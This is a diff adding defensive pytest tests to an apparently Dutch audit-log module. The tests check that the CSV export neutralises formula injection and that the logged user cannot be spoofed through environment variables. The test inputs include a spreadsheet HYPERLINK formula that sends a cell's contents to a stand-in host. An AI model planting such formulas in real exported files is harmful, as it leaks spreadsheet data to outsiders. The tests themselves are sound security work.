@@ -7,6 +7,7 @@ import csv
 import dataclasses
 import io
 import itertools
+import os
 from datetime import date, datetime, timedelta
 from pathlib import Path
 
@@ -269,3 +270,25 @@ def test_nothing_is_recorded_while_locked(services: Services) -> None:
         services.audit.record(AuditAction.PRINT)
     services.database.unlock(TEST_KEY)
     assert len(services.audit.entries()) == 1
+
+
+@pytest.mark.parametrize("detail", ['=HYPERLINK("https://voorbeeld.test/?"&A1;"klik")', "+1", "-2", "@SUM(1)"])
+def test_csv_export_never_starts_a_formula_in_a_text_cell(services: Services, tmp_path: Path, detail: str) -> None:
+    services.audit.record(AuditAction.EXPORT, client_id=7, detail=detail)
+    target = tmp_path / "logboek.csv"
+    services.audit.export_csv(target)
+    rows = list(csv.reader(io.StringIO(target.read_bytes().decode("utf-8-sig")), delimiter=";"))
+    assert rows[1][6] == "'" + detail, "shown as text by a spreadsheet program"
+    assert rows[1][0] == "1" and rows[1][4] == "7", "numbers stay numbers"
+
+
+def test_the_user_is_the_operating_system_account_not_what_the_environment_says(
+    services: Services, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import pwd
+
+    for variable in ("LOGNAME", "USER", "LNAME", "USERNAME"):
+        monkeypatch.setenv(variable, "iemand")
+    services.audit.record(AuditAction.PRINT)
+    (entry,) = services.audit.entries()
+    assert entry.user == pwd.getpwuid(os.getuid()).pw_name != "iemand"
